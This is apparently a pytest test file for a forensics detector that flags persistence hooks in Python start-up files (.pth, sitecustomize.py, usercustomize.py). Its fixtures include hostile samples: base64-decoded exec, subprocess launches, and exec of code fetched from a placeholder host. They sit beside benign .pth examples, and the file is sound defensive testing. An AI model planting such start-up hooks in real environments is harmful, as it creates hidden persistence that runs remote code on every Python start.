"""Code that every start of Python runs."""

from __future__ import annotations

import pytest

from forensics.detectors.python_start_hooks import DETECTOR
from tests.scenes import debian, judge, said

HOOK, LONG = "persistence/python-start-hook", "persistence/python-start-hook-long"
SITE = "/usr/local/lib/python3.11/site-packages"


@pytest.mark.parametrize(
    ("name", "text", "expected"),
    [
        ("x.pth", "import base64; exec(base64.b64decode('aGk='))", (HOOK, "high")),
        ("x.pth", "/some/path\nimport os, subprocess; subprocess.Popen(['x'])", (HOOK, "high")),
        (
            "x.pth",
            "import urllib.request as u; exec(u.urlopen('http://pool.invalid').read())",
            (HOOK, "high"),
        ),
        ("x.pth", "import x; " + "a = 1; " * 300, (LONG, "medium")),
        (
            "distutils-precedence.pth",
            "import os; v = os.environ.get('USE', 'local'); v and __import__('_distutils_hack').add_shim();",
            None,
        ),
        ("__editable__.x.pth", "/app/src", None),
        (
            "matplotlib-nspkg.pth",
            "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join('a')",
            None,
        ),
        ("sitecustomize.py", "import base64\nexec(base64.b64decode('aGk='))\n", (HOOK, "high")),
        ("sitecustomize.py", "try:\n    import apport_python_hook\nexcept ImportError:\n    pass\n", None),
        ("sitecustomize.py", "import subprocess\n", None),
        (
            "sitecustomize.py",
            "import subprocess\nsubprocess.Popen(['/bin/sh', '-c', 'id'])\n",
            (HOOK, "medium"),
        ),
        ("usercustomize.py", "import os\nos.system('/opt/agent/run &')\n", (HOOK, "medium")),
        ("x.pth.txt", "import base64; exec(base64.b64decode('aGk='))", None),
    ],
)
def test_hooks(name: str, text: str, expected: tuple[str, str] | None) -> None:
    found = judge(DETECTOR, debian(), {f"{SITE}/{name}": text.encode()})
    assert [(rule, severity) for rule, severity, _ in said(found)] == ([expected] if expected else [])


def test_evidence_points_at_the_line() -> None:
    text = b"/some/path\nimport base64; exec(base64.b64decode('aGk='))\n"
    (found,) = judge(DETECTOR, debian(), {f"{SITE}/x.pth": text})
    assert found.evidence[0].offset == 11
